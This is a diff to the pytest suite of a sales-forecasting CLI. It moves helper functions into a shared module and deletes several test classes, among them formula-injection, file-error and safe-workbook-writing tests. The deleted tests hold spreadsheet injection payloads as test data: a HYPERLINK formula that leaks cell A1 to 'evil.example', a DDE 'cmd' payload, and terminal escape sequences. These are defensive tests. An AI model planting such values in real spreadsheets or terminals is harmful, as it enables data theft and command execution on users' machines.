@@ -3,12 +3,10 @@
 from __future__ import annotations
 
 import io
-import json
 import math
 import shutil
 import subprocess
 import sys
-from pathlib import Path
 
 import pandas as pd
 import pytest
@@ -16,6 +14,7 @@ import pytest
 from alfa_xl.cli import main
 from alfa_xl.cli.outlook import TIDY_COLUMNS
 from alfa_xl.model.lineup import default_lineup
+from cli_support import LINEUP_HEAD, strict_json, write
 
 LATEST = 73_000.0
 JUNIOR_PEAK = 33_000.0
@@ -25,13 +24,6 @@ MODELS = list(default_lineup().names)
 def run(*args: str, exe: list[str] | None = None) -> subprocess.CompletedProcess:
     cmd = (exe or [sys.executable, "-m", "alfa_xl.cli"]) + list(args)
     return subprocess.run(cmd, capture_output=True, text=True, timeout=120)
-
-
-def strict_json(text: str):
-    def no_constants(name):
-        raise ValueError(f"{name} is not valid JSON")
-
-    return json.loads(text, parse_constant=no_constants)
 
 
 @pytest.fixture(scope="module")
@@ -111,14 +103,6 @@ class TestThroughTheEntryPoint:
         assert done.stderr.strip().splitlines() == [
             "alfa-xl: error: scenario: unknown scenario (got 'optimistic'); use one of base, bear, bull, plan, track_record"
         ]
-
-
-def write(path, text):
-    path.write_text(text, encoding="utf-8")
-    return str(path)
-
-
-LINEUP_HEAD = "model,launch_year,peak_units,share_italy,share_rest_of_europe,share_north_america,share_rest_of_world\n"
 
 
 def bad_cases(tmp):
@@ -272,190 +256,6 @@ class TestAlreadyAboveTarget:
 
 
 # -- nothing typed into a name reaches a spreadsheet as a formula or the terminal as markup ----------------
-EVIL_NAMES = [
-    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-    "=cmd|' /C calc'!A0",
-    "+SUM(1,2)",
-    "-2+3",
-    "@SUM(A1:A2)",
-    "\tTAB=1+1",
-    "\rCR=1+1",
-]
-
-
-def evil_lineup(tmp, names=EVIL_NAMES) -> str:
-    rows = [LINEUP_HEAD.strip(), "Junior,2024,33000,1,0,0,0"]
-    for i, name in enumerate(names):
-        quoted = '"' + name.replace('"', '""') + '"'
-        rows.append(f"{quoted},{2027 + i % 3},{5000 + i},0.5,0.2,0.2,0.1")
-    return write(tmp / "evil.csv", "\n".join(rows) + "\n")
-
-
-def csv_text_fields(text: str) -> list[str]:
-    import csv
-
-    out = []
-    for row in csv.reader(io.StringIO(text)):
-        for field in row:
-            try:
-                float(field)
-            except ValueError:
-                out.append(field)
-    return out
-
-
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-class TestFormulaInjection:
-    def test_outlook_csv_writes_names_as_text(self, tmp_path, capsys):
-        from alfa_xl.model.lineup import load_lineup
-
-        path = evil_lineup(tmp_path)
-        names = load_lineup(path).names  # as the loader keeps them
-        scenario = write(tmp_path / "s.csv", 'parameter,value\nname,"=1+1"\n')
-        assert main(["outlook", "--lineup", path, "--scenario", scenario, "--format", "csv"]) == 0
-        text = capsys.readouterr().out
-        fields = csv_text_fields(text)
-        live = [f for f in fields if f.startswith(FORMULA_STARTS)]
-        assert live == []
-        risky = [n for n in names if n.startswith(FORMULA_STARTS)]
-        assert len(risky) >= 5  # the loader kept most of them: the rule had work to do
-        for name in risky:
-            assert "'" + name in fields, name
-        assert "'=1+1" in fields  # the scenario name
-        # numbers are still numbers (a negative gap is not text)
-        assert main(["outlook", "--lineup", path, "--target", "100", "--format", "csv"]) == 0
-        t = pd.read_csv(io.StringIO(capsys.readouterr().out))
-        assert t["value"].dtype == float and (t["value"] < 0).any()
-
-    def test_simulate_csv_writes_text_as_text(self, tmp_path, capsys):
-        path = evil_lineup(tmp_path)
-        assert main(["simulate", "-n", "200", "--lineup", path, "--format", "csv"]) == 0
-        fields = csv_text_fields(capsys.readouterr().out)
-        assert fields and [f for f in fields if f.startswith(FORMULA_STARTS)] == []
-        assert "'+4 yr" in fields or any(f.startswith("'+") or f.startswith("'-") for f in fields)
-
-    def test_markup_and_control_characters_print_as_typed(self, tmp_path, capsys):
-        names = ["[/]", "[link=http://evil.example]click[/link]", "[bold red]loud", "esc\x1b[31mred\x1b]8;;http://x\x07"]
-        folder = tmp_path / "[" / "]folder"  # the path itself holds "[/]"
-        folder.mkdir(parents=True)
-        path = evil_lineup(folder, names)
-        chart = folder / "[b]chart.png"
-        assert main(["outlook", "--lineup", path, "--plot", str(chart)]) == 0
-        out, err = capsys.readouterr()
-        assert err == "" and chart.is_file()
-        assert "\x1b" not in out and "\x07" not in out
-        for text in ("[/]", "[link=http://evil.example]click[/link]", "[bold red]loud", "esc\\x1b[31mred", str(chart)):
-            assert text in out, text
-        assert main(["simulate", "-n", "100", "--lineup", path, "--scenario",
-                     write(folder / "s.csv", "parameter,value\nname,[/]x\x1b[2J\n")]) == 0
-        out = capsys.readouterr().out
-        assert "\x1b" not in out and "[/]x\\x1b[2J" in out
-
-    def test_error_lines_show_control_characters_written_out(self, tmp_path, capsys):
-        assert main(["outlook", "--scenario", "moon\x1b[2J"]) == 2
-        err = capsys.readouterr().err
-        assert "\x1b" not in err and len(err.strip().splitlines()) == 1
-
-
-# -- files: one line and exit 2 for whatever the system refuses -------------------------------------------
-@pytest.fixture
-def readonly_folder(tmp_path):
-    """A folder in which nobody, root included, can create a file (immutable as root, 0o555 otherwise)."""
-    import os
-
-    folder = tmp_path / "readonly"
-    folder.mkdir()
-    yield_cleanup = []
-    if os.geteuid() == 0:
-        done = subprocess.run(["chattr", "+i", str(folder)], capture_output=True)
-        if done.returncode != 0:
-            pytest.skip("cannot make a read-only folder here (chattr +i refused)")
-        yield_cleanup.append(["chattr", "-i", str(folder)])
-    else:
-        folder.chmod(0o555)
-    try:
-        (folder / "probe").touch()
-    except OSError:
-        pass
-    else:
-        pytest.skip("this file system lets the folder be written")
-    try:
-        yield folder
-    finally:
-        for cmd in yield_cleanup:
-            subprocess.run(cmd, capture_output=True)
-        folder.chmod(0o755)
-
-
-def one_line(capsys, code, *fragments):
-    out, err = capsys.readouterr()
-    assert code == 2, err
-    lines = err.strip().splitlines()
-    assert len(lines) == 1 and lines[0].startswith("alfa-xl: error: "), err
-    assert "Traceback" not in err
-    for f in fragments:
-        assert f in lines[0], (f, lines[0])
-    return lines[0]
-
-
-class TestFileErrors:
-    def test_unreadable_lineup_and_scenario(self, capsys):
-        # /proc/self/mem exists and is a file, but reading it from the start fails for everyone
-        one_line(capsys, main(["outlook", "--lineup", "/proc/self/mem"]), "lineup file: cannot read", "/proc/self/mem")
-        one_line(capsys, main(["simulate", "--lineup", "/proc/self/mem"]), "lineup file: cannot read")
-        one_line(capsys, main(["outlook", "--scenario", "/proc/self/mem"]), "scenario file: cannot read")
-
-    def test_plot_into_places_that_refuse(self, tmp_path, capsys, readonly_folder):
-        (tmp_path / "taken.png").mkdir()
-        one_line(capsys, main(["outlook", "--plot", str(tmp_path / "taken.png")]), "plot: is a folder")
-        one_line(capsys, main(["outlook", "--plot", "/proc/chart.png"]), "plot: ", "/proc/chart.png")
-        one_line(capsys, main(["outlook", "--plot", str(readonly_folder / "chart.png")]), "plot: cannot write")
-        one_line(capsys, main(["simulate", "-n", "50", "--plot", str(readonly_folder / "fan.png")]), "plot: cannot write")
-
-    def test_build_workbook_onto_a_folder_or_into_a_read_only_one(self, tmp_path, capsys, readonly_folder):
-        (tmp_path / "book.xlsm").mkdir()
-        one_line(capsys, main(["build-workbook", "--out", str(tmp_path / "book.xlsm")]), "out: is a folder")
-        one_line(capsys, main(["build-workbook", "--out", str(readonly_folder / "book.xlsm")]), "out: ")
-        assert list(readonly_folder.iterdir()) == []
-
-    def test_refresh_in_a_read_only_folder(self, tmp_path, capsys):
-        import os
-
-        folder = tmp_path / "books"
-        book = folder / "book.xlsm"
-        assert main(["build-workbook", "--out", str(book)]) == 0
-        capsys.readouterr()
-        before = book.read_bytes()
-        if os.geteuid() == 0:
-            if subprocess.run(["chattr", "+i", str(folder)], capture_output=True).returncode != 0:
-                pytest.skip("cannot make a read-only folder here")
-        else:
-            folder.chmod(0o555)
-        try:
-            one_line(capsys, main(["refresh", str(book)]), "book.xlsm")
-        finally:
-            subprocess.run(["chattr", "-i", str(folder)], capture_output=True)
-            folder.chmod(0o755)
-        assert book.read_bytes() == before and sorted(p.name for p in folder.iterdir()) == ["book.py", "book.xlsm"]
-
-    def test_text_the_terminal_cannot_show(self, tmp_path):
-        import os
-
-        path = write(tmp_path / "l.csv", LINEUP_HEAD + "Junior,2024,33000,1,0,0,0\nGiulia \u00e9\u00e8\u4e2d,2027,5000,1,0,0,0\n")
-        env = dict(os.environ, PYTHONIOENCODING="ascii")
-        done = subprocess.run([sys.executable, "-m", "alfa_xl.cli", "outlook", "--lineup", path],
-                              capture_output=True, text=True, timeout=120, env=env)
-        assert done.returncode == 2 and "Traceback" not in done.stderr
-        assert done.stderr.strip().splitlines() == [
-            "alfa-xl: error: output: the terminal's encoding ascii cannot show '\\xe9\\xe8\\u4e2d'; "
-            "use a UTF-8 terminal or set PYTHONIOENCODING=utf-8"]
-        # JSON escapes non-ASCII text, so it needs no UTF-8 terminal
-        done = subprocess.run([sys.executable, "-m", "alfa_xl.cli", "outlook", "--lineup", path, "-f", "json"],
-                              capture_output=True, text=True, timeout=120, env=env)
-        assert done.returncode == 0 and "Giulia \\u00e9\\u00e8\\u4e2d" in done.stdout
-
 
 class TestInterrupt:
     def test_ctrl_c_exits_130_with_one_line(self):
@@ -473,94 +273,3 @@ class TestInterrupt:
 
 
 # -- build-workbook writes only what it owns -------------------------------------------------------------
-class TestBuildWorkbookWritesOnlyWhatItOwns:
-    def test_default_is_the_current_folder_never_the_installation(self, tmp_path, monkeypatch, capsys):
-        import alfa_xl
-
-        install = Path(alfa_xl.__file__).resolve().parent
-        before = sorted(p.name for p in install.iterdir())
-        monkeypatch.chdir(tmp_path)
-        assert main(["build-workbook"]) == 0
-        assert sorted(p.name for p in tmp_path.iterdir()) == ["alfa_outlook.py", "alfa_outlook.xlsm"]
-        assert sorted(p.name for p in install.iterdir()) == before
-        assert "checks: OK" in capsys.readouterr().out
-        one_line(capsys, main(["build-workbook", "--out", str(install / "x.xlsm")]), "inside the alfa_xl installation")
-        one_line(capsys, main(["build-workbook", "--out", str(install / "book" / "x.xlsm"), "--force"]),
-                 "inside the alfa_xl installation")
-        assert not (install / "x.xlsm").exists() and not (install / "book" / "x.xlsm").exists()
-
-    @pytest.mark.parametrize("name", ["x.py", "book.xlsx", "book", "report.XLS"])
-    def test_only_xlsm(self, tmp_path, capsys, name):
-        one_line(capsys, main(["build-workbook", "--out", str(tmp_path / name)]), "not a .xlsm file")
-        assert list(tmp_path.iterdir()) == []
-
-    def test_a_module_of_the_same_name_is_not_replaced(self, tmp_path, capsys):
-        mine = write(tmp_path / "report.py", "print('my own script')\n")
-        one_line(capsys, main(["build-workbook", "--out", str(tmp_path / "report.xlsm")]), "would replace report.py", "--force")
-        assert Path(mine).read_text() == "print('my own script')\n"
-        assert sorted(p.name for p in tmp_path.iterdir()) == ["report.py"]
-
-    def test_an_existing_workbook_needs_force_and_keeps_a_backup(self, tmp_path, capsys):
-        book = tmp_path / "book.xlsm"
-        assert main(["build-workbook", "--out", str(book)]) == 0
-        capsys.readouterr()
-        old_book, old_module = b"previous workbook bytes", "previous module\n"
-        book.write_bytes(old_book)
-        (tmp_path / "book.py").write_text(old_module)
-        one_line(capsys, main(["build-workbook", "--out", str(book)]), "would replace book.xlsm and book.py")
-        assert book.read_bytes() == old_book
-        assert main(["build-workbook", "--out", str(book), "--force"]) == 0
-        assert "previous versions kept as book.xlsm.bak, book.py.bak" in capsys.readouterr().out
-        assert (tmp_path / "book.xlsm.bak").read_bytes() == old_book
-        assert (tmp_path / "book.py.bak").read_text() == old_module
-        assert book.read_bytes()[:2] == b"PK"  # a zip package again
-        assert sorted(p.name for p in tmp_path.iterdir()) == ["book.py", "book.py.bak", "book.xlsm", "book.xlsm.bak"]
-
-    @pytest.mark.parametrize("lock", ["~$book.xlsm", ".~lock.book.xlsm#"])
-    def test_lock_files_are_honoured_even_with_force(self, tmp_path, capsys, lock):
-        book = tmp_path / "book.xlsm"
-        book.write_bytes(b"open in a spreadsheet")
-        (tmp_path / lock).write_text("owner")
-        for force in ([], ["--force"]):
-            one_line(capsys, main(["build-workbook", "--out", str(book), *force]), "open in Excel or LibreOffice", lock)
-        assert book.read_bytes() == b"open in a spreadsheet"
-        assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["book.xlsm", lock])
-
-    def test_a_backup_name_that_is_a_link_is_not_followed(self, tmp_path, capsys):
-        import os
-
-        book = tmp_path / "book.xlsm"
-        book.write_bytes(b"old")
-        victim = tmp_path / "victim.txt"
-        victim.write_text("keep me")
-        os.symlink(victim, tmp_path / "book.xlsm.bak")
-        one_line(capsys, main(["build-workbook", "--out", str(book), "--force"]), "backup name taken")
-        assert victim.read_text() == "keep me" and book.read_bytes() == b"old"
-
-    def test_a_linked_workbook_is_refused(self, tmp_path, capsys):
-        import os
-
-        real = tmp_path / "real.xlsm"
-        real.write_bytes(b"real")
-        os.symlink(real, tmp_path / "link.xlsm")
-        one_line(capsys, main(["build-workbook", "--out", str(tmp_path / "link.xlsm"), "--force"]), "not a plain file")
-        assert real.read_bytes() == b"real"
-
-    def test_a_crash_while_backing_up_keeps_the_previous_backup(self, tmp_path, monkeypatch):
-        import alfa_xl.cli.workbook as wb
-
-        book = tmp_path / "book.xlsm"
-        book.write_bytes(b"new contents " * 1000)
-        (tmp_path / "book.xlsm.bak").write_bytes(b"previous good backup")
-
-        def half_then_crash(src, dst, *args):
-            dst.write(src.read(100))
-            raise KeyboardInterrupt  # the process is stopped mid-copy
-
-        monkeypatch.setattr(wb.shutil, "copyfileobj", half_then_crash)
-        with pytest.raises(KeyboardInterrupt):
-            wb.keep_backup(book)
-        assert (tmp_path / "book.xlsm.bak").read_bytes() == b"previous good backup"
-        assert sorted(p.name for p in tmp_path.iterdir()) == ["book.xlsm", "book.xlsm.bak"]  # no debris
-        monkeypatch.undo()
-        assert wb.keep_backup(book).read_bytes() == book.read_bytes()
